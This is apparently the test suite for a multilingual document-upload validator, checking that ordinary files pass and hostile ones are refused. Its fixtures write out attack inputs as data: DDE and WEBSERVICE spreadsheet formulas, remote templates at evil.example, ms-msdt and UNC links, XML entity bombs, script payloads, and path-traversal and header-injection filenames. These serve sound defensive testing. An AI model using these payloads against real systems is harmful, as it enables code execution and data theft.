"""Each hostile file is refused for its own reason; what people honestly send comes through."""

import json
import re
import string
import subprocess
import sys
import unicodedata

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.documents import checks
from hub.documents.checks import isolation, kinds, problems
from rules.text import LANGUAGES
from tests.documents import hostile, samples

GOOD = [
    ("Жарғы.pdf", samples.pdf, "pdf"),
    ("Банк үзіндісі.PDF", samples.pdf_for_reading_only, "pdf"),
    ("Сандар.pdf", samples.pdf_of_lone_values, "pdf"),
    ("Бизнес-план «Өрлеу» № 7.docx", samples.word, "docx"),
    ("Диаграммалы есеп.docx", samples.word_with_chart, "docx"),
    ("Отчёт за II квартал.xlsx", samples.excel, "xlsx"),
    ("Куәлік көшірмесі.png", samples.png, "png"),
    ("Паспорт.jpg", samples.jpeg, "jpeg"),
    ("Төлқұжат.jpeg", samples.jpeg_progressive, "jpeg"),
    ("Сурет телефоннан.JPG", samples.jpeg_of_phone, "jpeg"),
    ("дополнено нулями.jpg", lambda: samples.jpeg() + bytes(4096), "jpeg"),
    ("перевод строки.png", lambda: samples.png() + b"\n", "png"),
    ("Сілтемесі бар.pdf", hostile.pdf_with_link, "pdf"),
    ("Сканер.pdf", lambda: hostile.pdf_with_stream(hostile.flate_bomb(60), Filter=pikepdf.Name.FlateDecode), "pdf"),
    ("LibreOffice құжаты.docx", hostile.word_of_libre_office, "docx"),
    ("Оглавление.docx", lambda: hostile.word_with_field(" TOC ", '\\o "1-3" '), "docx"),
    ("Беттер.docx", lambda: hostile.word_with_simple_field(" PAGE "), "docx"),
    ("Рисунок.docx", lambda: hostile.word_with_drawing("<path d='M0 0'/>"), "docx"),
    ("Хат.docx", lambda: hostile.word_with_link("mailto:info@example.kz"), "docx"),
    ("Формула.xlsx", lambda: hostile.excel_with_formula("SUM('a|b'!A1:A3)&amp;\"x|y\""), "xlsx"),
]

BAD = {
    "empty": [("a.pdf", bytes)],
    "too_large": [("a.pdf", lambda: samples.pdf() + bytes(checks.MAX_BYTES))],
    "truncated": [
        ("a.pdf", samples.pdf_cut),
        ("linear.pdf", samples.pdf_cut_after_linearization),
        ("a.pdf", lambda: samples.pdf().replace(b"%%EOF", b"")),
        ("xref.pdf", samples.pdf_with_false_startxref),
        ("spoilt.pdf", samples.pdf_with_spoilt_object),
        ("blank.pdf", samples.pdf_without_pages),
        ("a.pdf", lambda: b"%PDF-1.7\n"),
        ("a.png", lambda: samples.png()[:-12]),
        ("a.png", lambda: samples.png()[:20]),
        ("a.png", samples.png_spoilt),
        ("no-pixels.png", lambda: samples.png_claiming(0, 9)),
        ("frames.png", hostile.png_with_second_frame),
        ("a.jpg", lambda: samples.jpeg()[:-2]),
        ("half.jpg", lambda: samples.jpeg()[:400]),
        ("a.docx", lambda: samples.word()[:-30]),
        ("half.xlsx", lambda: samples.excel()[:3000]),
        ("spoilt.docx", samples.word_with_spoilt_part),
    ],
    "renamed": [
        ("invoice.pdf", lambda: samples.PROGRAM),
        ("scan.pdf", samples.png),
        ("scan.png", samples.jpeg),
        ("report.docx", samples.excel),
        ("report.pdf", samples.word),
        ("report.xlsx", samples.archive),
        ("report.pdf", samples.presentation),
        ("page.pdf", lambda: b"<!DOCTYPE html><title>404</title>"),
        ("note.docx", "жай мәтін".encode),
        ("photo.jpg", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(40)),
        ("noise.pdf", lambda: b"\x00\x01\x02\x03" * 40),
        ("no ending", samples.pdf),
        ("letter.doc", samples.word),
        ("drawing.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("drawing.pdf", lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("page.jpg", lambda: b"\xef\xbb\xbf \n<html><script>alert(1)</script></html>"),
    ],
    "not_allowed": [
        ("setup.exe", lambda: samples.PROGRAM),
        ("invoice.pdf.exe", lambda: samples.PROGRAM),
        ("files.zip", samples.archive),
        ("cut.zip", lambda: samples.archive()[:-9]),
        ("slides.pptx", samples.presentation),
        ("picture.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("letter.msg", lambda: samples.compound("__nameid_version1.0")),
    ],
    "encrypted": [
        ("a.pdf", samples.pdf_with_password),
        ("a.docx", lambda: samples.compound("EncryptedPackage")),
        ("a.xlsx", lambda: samples.compound("EncryptedPackage")),
        ("zip.docx", samples.zip_with_password),
    ],
    "legacy": [
        ("a.doc", lambda: samples.compound("WordDocument")),
        ("a.docx", lambda: samples.compound("WordDocument")),
        ("a.xls", lambda: samples.compound("Workbook")),
    ],
    "macros": [
        ("a.docm", samples.word_of_macros),
        ("a.docx", samples.word_of_macros),
        ("a.xlsm", samples.excel_of_macros),
        ("project.docx", lambda: samples.word_with(samples.MACRO_PROJECT)),
        ("macrosheet.xlsx", samples.excel_with_macrosheet),
        ("inner.docx", samples.word_with_workbook_of_macros),
        ("related.docx", lambda: samples.word_with_relation("vbaProject", "other.bin", outside=False)),
        ("hidden.xlsx", samples.excel_of_macros),
    ],
    "embedded": [
        ("a.docx", lambda: samples.word_with({"word/embeddings/oleObject1.bin": samples.COMPOUND + bytes(99)})),
        ("a.docx", lambda: samples.word_with({"word/media/image9.png": samples.COMPOUND + bytes(99)})),
        ("a.docx", lambda: samples.word_with({"word/embeddings/a.bin": samples.PROGRAM})),
        ("a.docx", lambda: samples.word_with({"word/embeddings/a.docx": samples.word()})),
        ("deep.docx", lambda: samples.word_with({"word/embeddings/a.xlsx": samples.word_with_chart()})),
        ("a.docx", lambda: samples.word_with({"word/activeX/activeX1.xml": b"<ax/>"})),
        ("a.docx", lambda: samples.word_with_relation("aFChunk", "chunk.htm", outside=False)),
        ("program.docx", lambda: hostile.word_with_cargo(samples.PROGRAM)),
        ("page.docx", lambda: hostile.word_with_cargo(b"<html><script>alert(1)</script>")),
        ("pdf.docx", lambda: hostile.word_with_cargo(samples.pdf())),
        ("nested.docx", hostile.zip_in_zip),
        ("script.docx", lambda: hostile.word_with_drawing("<script>alert(1)</script>")),
        ("event.docx", lambda: hostile.word_with_drawing("<path onclick='alert(1)'/>")),
    ],
    "external": [
        ("a.docx", lambda: samples.word_with_relation("attachedTemplate", "https://evil.example/t.dotm")),
        ("a.docx", lambda: samples.word_with_relation("image", "file://10.0.0.1/share/a.png")),
        ("a.docx", lambda: samples.word_with_relation("oleObject", "https://evil.example/a.hta")),
        ("dde.xlsx", lambda: samples.zipped(samples.unzipped(samples.excel()) | {"xl/externalLinks/e.xml": b"<e/>"})),
        ("dde.docx", lambda: hostile.word_with_field(" DD", "EAUTO ", "c:\\\\windows\\\\cmd.exe")),
        ("include.docx", lambda: hostile.word_with_simple_field("INCLUDEPICTURE https://evil.example/a.png")),
        ("formula.xlsx", lambda: hostile.excel_with_formula("cmd|'/C calc'!A0")),
        ("letter.xlsx", lambda: hostile.excel_with_formula("cmd&#124;'/C calc'!A0")),
        ("web.xlsx", lambda: hostile.excel_with_formula("_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)")),
        ("connection.xlsx", hostile.excel_with_connection),
        ("script.docx", lambda: hostile.word_with_link("javascript:alert(1)")),
        ("search.docx", lambda: hostile.word_with_link("ms-msdt:/id PCWDiagnostic")),
        ("share.docx", lambda: hostile.word_with_link("file://10.0.0.1/share/a.docx")),
        ("share2.docx", lambda: hostile.word_with_link("\\\\10.0.0.1\\share")),
        ("inside.docx", lambda: samples.word_with_relation("image", "https://evil.example/a.png", outside=False)),
    ],
    "xml_entities": [
        ("laughs.docx", hostile.word_with_billion_laughs),
        ("passwd.docx", hostile.word_with_outside_entity),
        ("ill-formed.docx", lambda: samples.word_with({"word/a.vml": b"<br><!DOCTYPE x [<!ENTITY a 'b'>]><x/>"})),
        ("a.docx", samples.word_with_dtd),
        ("utf16.docx", lambda: samples.word_with_dtd("utf-16")),
        ("vml.docx", samples.word_with_drawing_of_dtd),
    ],
    "malformed": [
        ("a.docx", lambda: samples.word_with({"word/document.xml": b"<w:document>"})),
        ("same.docx", samples.zip_of_same_names),
        ("climb.docx", samples.zip_climbing_out),
        ("minds.docx", hostile.word_of_two_minds),
        (
            "norels.docx",
            lambda: samples.zipped({k: v for k, v in samples.unzipped(samples.word()).items() if k != "_rels/.rels"}),
        ),
        ("bz.docx", lambda: samples.zipped(samples.unzipped(samples.word()), 12)),
    ],
    "pdf_script": [
        ("a.pdf", samples.pdf_with_script),
        ("disguise.pdf", samples.pdf_with_script_in_disguise),
        ("deep.pdf", samples.pdf_with_deep_script),
        ("locked.pdf", samples.pdf_with_script_for_reading_only),
        ("xfa.pdf", samples.pdf_form_of_xfa),
        ("aa.pdf", hostile.pdf_with_additional_script),
        ("named.pdf", hostile.pdf_with_named_script),
    ],
    "pdf_launch": [
        ("a.pdf", samples.pdf_with_launch),
        ("form.pdf", hostile.pdf_that_sends_its_form),
        ("remote.pdf", hostile.pdf_that_opens_a_file),
        ("call.pdf", hostile.pdf_that_calls_on_opening),
        ("turn.pdf", hostile.pdf_that_calls_on_turning_a_page),
        ("page.pdf", hostile.pdf_with_outside_page),
        ("stream.pdf", hostile.pdf_with_outside_stream),
    ],
    "pdf_attachment": [("a.pdf", samples.pdf_with_attachment), ("media.pdf", hostile.pdf_with_rich_media)],
    "zip_bomb": [
        ("ratio.docx", samples.zip_bomb),
        ("total.docx", samples.zip_of_great_total),
        ("many.docx", samples.zip_of_many_parts),
        ("overlap.docx", samples.zip_of_overlapping_parts),
        ("understated.docx", samples.zip_of_understated_size),
        ("stream.pdf", hostile.pdf_bomb),
        ("text.pdf", hostile.pdf_bomb_as_text),
        ("twice.pdf", hostile.pdf_bomb_in_bomb),
        ("runs.pdf", hostile.pdf_bomb_of_runs),
        ("codes.pdf", hostile.pdf_bomb_of_codes),
    ],
    "pixel_flood": [
        ("a.png", lambda: samples.png_claiming(100_000, 100_000)),
        ("edge.png", lambda: samples.png_claiming(7_072, 7_072)),
        ("a.jpg", lambda: samples.jpeg_claiming(65_000, 65_000)),
        ("a.pdf", hostile.pdf_with_pixel_flood),
    ],
    "polyglot": [
        ("junk.pdf", lambda: b"\n" + samples.pdf()),
        ("junk.docx", lambda: b"#!/bin/sh\n"[2:] + samples.word()),
        ("tail.pdf", lambda: samples.pdf() + b"A" * 2000),
        ("zip.pdf", lambda: samples.pdf() + samples.archive()),
        ("inner-zip.pdf", hostile.pdf_with_zip_before_its_end),
        ("zip-and-tail.pdf", lambda: samples.pdf() + samples.archive() + b"\n%%EOF\n"),
        ("html.pdf", hostile.pdf_led_by_html),
        ("text.png", hostile.png_with_zip_inside),
        ("comment.jpg", hostile.jpeg_with_zip_inside),
        ("tail.png", lambda: samples.png() + b"<script>alert(1)</script>"),
        ("zip.png", lambda: samples.png() + samples.archive()),
        ("tail.jpg", lambda: samples.jpeg() + b"<script>alert(1)</script>"),
        ("two.jpg", lambda: samples.jpeg() + samples.jpeg()),
        ("pdf-in.jpg", samples.jpeg_hiding_pdf),
        ("tail.docx", lambda: samples.word() + b"A" * 40),
        ("two.docx", samples.zip_behind_zip),
        ("pdf-in.docx", lambda: samples.zipped({"a": samples.pdf()} | samples.unzipped(samples.word()), 0)),
    ],
    "unreadable": [("scans.jpg", samples.jpeg_of_many_scans)],
}


@pytest.fixture
def sent(tmp_path):
    """Lay bytes down as an uploaded file; the name on the disk says nothing."""

    def put(data):
        path = tmp_path / "upload"
        path.write_bytes(data)
        return path

    return put


@pytest.mark.parametrize(("name", "build", "kind"), GOOD, ids=[name for name, *_ in GOOD])
def test_an_honest_file_is_accepted(sent, name, build, kind):
    assert checks.check(sent(build()), name) == checks.Verdict(True, kind, kinds.MIMES[kind], None)


@pytest.mark.parametrize(
    ("code", "name", "build"),
    [(code, *case) for code, cases in BAD.items() for case in cases],
    ids=[f"{code}-{at}-{case[0]}" for code, cases in BAD.items() for at, case in enumerate(cases)],
)
def test_a_hostile_file_is_refused_for_its_reason(sent, code, name, build):
    verdict = checks.check(sent(build()), name)
    assert (verdict.ok, verdict.kind, verdict.problem and verdict.problem.code) == (False, None, code)
    for language in LANGUAGES:
        told = verdict.problem.message.to(language)
        assert any(pattern.fullmatch(told) for pattern in wordings(code, language)), told


def wordings(code, language):
    """The messages of a code with anything in their blanks."""
    templates = [text.to(language) for key, text in problems.MESSAGES.items() if key.partition("/")[0] == code]
    return [re.compile(re.sub(r"\\\{\w+\\\}", ".+", re.escape(template))) for template in templates]


def test_every_code_has_a_hostile_sample():
    assert set(BAD) == {variant.partition("/")[0] for variant in problems.MESSAGES}


@pytest.mark.parametrize("variant", problems.MESSAGES)
def test_a_message_is_whole_in_three_languages(variant):
    message = problems.MESSAGES[variant]
    blanks = [{field for _, field, *_ in string.Formatter().parse(text) if field} for text in message]
    assert blanks[0] == blanks[1] == blanks[2]
    assert len(set(message)) == len(LANGUAGES)
    assert set("әғқңөұүі") & set(message.kk.lower())
    assert all(text.endswith(".") and text.count(". ") >= 1 for text in message), "what is wrong, then what to do"


@pytest.mark.parametrize("sort", kinds.LABELS)
def test_a_kind_is_named_in_three_languages(sort):
    assert all(kinds.LABELS[sort])


def test_a_renamed_file_is_told_what_it_truly_is(sent):
    message = checks.check(sent(samples.png()), "скан.pdf").problem.message
    assert "«.pdf»" in message.ru
    assert "изображение PNG" in message.ru
    assert "PNG суреті" in message.kk
    assert "“.png”" in message.en


def test_the_size_is_never_shown_as_the_limit(sent):
    message = checks.check(sent(bytes(checks.MAX_BYTES + 1)), "a.pdf").problem.message
    assert "20,1" in message.ru
    assert "20.1" in message.en


def test_the_largest_bearable_picture_fits_into_the_confined_memory(sent):
    picture = samples.Image.new("RGB", (7_000, 7_000), "white")
    out = samples.io.BytesIO()
    picture.save(out, "JPEG", progressive=True, subsampling=0, quality=50)
    assert checks.check_isolated(sent(out.getvalue()), "план.jpg").ok


@pytest.mark.parametrize("blank", ["", "   ", "...", "/", "a/", "\x00", "\u202e", ". ."])
def test_a_name_is_never_empty(blank):
    assert checks.safe_name(blank) == "file"


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("Қатысушы туралы өтініш.pdf", "Қатысушы туралы өтініш.pdf"),
        ("Ёлка «щ» № 5.docx", "Ёлка «щ» № 5.docx"),
        ("合同.pdf", "合同.pdf"),
        ("..\\..\\Windows\\a.pdf", "a.pdf"),
        ("/etc/passwd", "passwd"),
        ("ann\u202efdp.exe", "annfdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("a\x00.pdf", "a.pdf"),
        ("a.pdf. .", "a.pdf"),
        (".pdf", "file.pdf"),
        ("и\u0306.pdf", "й.pdf"),
        ("и\u200b\u0306 \x00 .pdf", "й.pdf"),
        ("я" * 300 + ".docx", "я" * 175 + ".docx"),
        (".htaccess", "file.htaccess"),
        ("--output=a.pdf", "output=a.pdf"),
        ("=cmd|'/C calc'!A0.xlsx", "C calc'!A0.xlsx"),
        ("@SUM(1).pdf", "SUM(1).pdf"),
        ("CON.pdf", "file CON.pdf"),
        ("com1.tar.pdf", "file com1.tar.pdf"),
        ("Контракт.pdf", "Контракт.pdf"),
        ("<b>қалың</b>.pdf", "b_.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf"),
        ("a\u2028b\u2029c.pdf", "a b c.pdf"),
        ("\u3164\u2800.pdf", "file.pdf"),
        ("Шарт\u2066 (2)\u2069.pdf", "Шарт (2).pdf"),
    ],
)
def test_a_name_is_made_safe(given_name, kept):
    assert checks.safe_name(given_name) == kept


@given(st.text())
def test_any_name_comes_out_plain_and_stays_so(name):
    safe = checks.safe_name(name)
    assert 0 < len(safe) <= 180
    assert not set(safe) & set('/\\<>:"|?*')
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for c in safe)
    assert checks.safe_name(safe) == safe


# The confined process


def test_the_confined_answer_is_the_same(sent):
    for name, build in [("Жарғы.pdf", samples.pdf), ("-x «есеп».xlsx", samples.excel), ("скан.pdf", samples.png)]:
        path = sent(build())
        assert checks.check_isolated(path, name) == checks.check(path, name)


def test_a_file_that_takes_too_long_is_stopped(sent):
    path = sent(samples.pdf_with_many_objects(millions=1))
    stopped = checks.check_isolated(path, "a.pdf", seconds=1, memory_mib=4096)
    assert stopped.problem.code == "unreadable"
    # the same file with time enough: it was the limit that stopped it
    assert checks.check_isolated(path, "a.pdf", seconds=120, memory_mib=4096).ok


def test_a_file_that_takes_too_much_memory_is_stopped(sent):
    path = sent(samples.pdf_with_many_objects(millions=1))
    stopped = checks.check_isolated(path, "a.pdf", memory_mib=160)
    assert stopped.problem.code == "unreadable"
    assert checks.check_isolated(path, "a.pdf", memory_mib=1024).ok


CONFINED = "from hub.documents.checks.__main__ import confine; confine({seconds}, {memory}); "
ANSWER = f"print({json.dumps(checks.Verdict.accepted('pdf', 'application/pdf').as_json())!r})"


@pytest.mark.parametrize(
    ("deed", "patience"),
    [
        ("while True: pass", 30),  # the processor limit ends it long before the clock
        ("import time; time.sleep(60)", 1),  # the clock ends it
        ("x = bytearray(400 * 1024 * 1024); ", 30),
        ("print('x' * 100_000)", 30),  # answers at too great a length
        ("import os; os.abort()", 30),
        ("print('{}')", 30),
        ("print('no JSON')", 30),
    ],
)
def test_whatever_goes_wrong_becomes_a_refusal(deed, patience):
    code = CONFINED.format(seconds=1, memory=256) + deed
    verdict = isolation.verdict_of(["-P", "-c", code], patience)
    assert (verdict.ok, verdict.problem.code) == (False, "unreadable")


def test_the_confined_process_can_answer():
    """Without this the refusals above would prove nothing."""
    code = CONFINED.format(seconds=1, memory=256) + "x = bytearray(40 * 1024 * 1024); " + ANSWER
    assert isolation.verdict_of(["-P", "-c", code], 30).ok


SHUT_OUT = "from hub.documents.checks.__main__ import shut_out; import os, socket, subprocess; shut_out(); "


@pytest.mark.parametrize(
    "deed",
    [
        "socket.socket()",
        "socket.getaddrinfo('example.kz', 80)",
        "subprocess.run(['true'])",
        "os.system('true')",
        "os.fork()",
        "os.execv('/bin/true', ['true'])",
    ],
)
def test_the_confined_process_reaches_nothing_outside(deed):
    assert not isolation.verdict_of(["-P", "-c", f"{SHUT_OUT}{deed}; {ANSWER}"], 30).ok
    assert isolation.verdict_of(["-P", "-c", SHUT_OUT + ANSWER], 30).ok, "without the deed it answers"


@pytest.mark.parametrize("name", ["SECRET_KEY", "DATABASE_URL", "S3_SECRET_KEY", "EMAIL_HOST_PASSWORD"])
def test_the_confined_process_sees_no_secrets(monkeypatch, name):
    monkeypatch.setenv(name, "hush")
    peek = "import os; 'hush' in os.environ.values() and os.abort(); "
    assert isolation.verdict_of(["-P", "-c", peek + ANSWER], 30).ok


def test_a_missing_file_is_not_blamed_on_its_sender(tmp_path):
    with pytest.raises(FileNotFoundError):
        checks.check_isolated(tmp_path / "none", "a.pdf")


def test_the_command_prints_the_verdict(sent):
    command = [sys.executable, "-m", "hub.documents.checks", "скан.pdf", str(sent(samples.png()))]
    told = json.loads(subprocess.run(command, capture_output=True, check=True).stdout)
    assert told["problem"]["code"] == "renamed"
    assert set(told["problem"]["message"]) == set(LANGUAGES)


def test_the_check_starts_without_django():
    code = "import sys, hub.documents.checks; sys.exit(any(m.split('.')[0] in {'django', 'PIL'} for m in sys.modules))"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
